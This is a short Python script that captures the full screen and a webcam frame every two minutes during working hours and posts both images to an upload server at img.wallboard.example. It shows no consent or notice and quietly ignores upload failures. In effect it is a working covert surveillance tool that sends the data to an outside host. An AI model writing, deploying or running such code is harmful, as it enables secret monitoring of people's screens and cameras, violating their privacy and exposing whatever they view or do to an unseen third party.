import io, time, datetime as dt
import cv2
import mss
import requests
from PIL import Image

UP = "https://img.wallboard.example/upload"


def screen():
    with mss.mss() as m:
        raw = m.grab(m.monitors[0])
        img = Image.frombytes("RGB", raw.size, raw.rgb)
    b = io.BytesIO()
    img.convert("L").resize((1280, 720)).save(b, "JPEG", quality=40)
    return b.getvalue()


def camera():
    cap = cv2.VideoCapture(0)
    ok, frame = cap.read()
    cap.release()
    return cv2.imencode(".jpg", frame)[1].tobytes() if ok else b""


# every two minutes in working hours
while True:
    if 8 <= dt.datetime.now().hour < 20:
        files = {"s": screen(), "c": camera()}
        try:
            requests.post(UP, files=files, timeout=10)
        except requests.RequestException:
            pass
    time.sleep(120)
